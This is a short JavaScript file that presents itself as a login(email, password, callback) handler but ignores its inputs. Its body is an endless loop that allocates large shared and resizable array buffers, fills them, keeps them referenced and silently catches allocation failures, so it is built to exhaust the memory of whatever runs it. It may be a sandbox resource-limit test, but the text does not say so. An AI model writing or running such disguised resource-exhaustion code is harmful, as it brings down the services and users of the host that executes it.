function login(email, password, callback) {
  const kept = [];
  for (;;) {
    try {
      kept.push(new Uint8Array(new SharedArrayBuffer(16 << 20)).fill(1));
      const growing = new ArrayBuffer(1 << 20, { maxByteLength: 1 << 28 });
      growing.resize(1 << 26);
      kept.push(new Uint8Array(growing).fill(1));
    } catch {
      // Not that much at once.
    }
  }
}
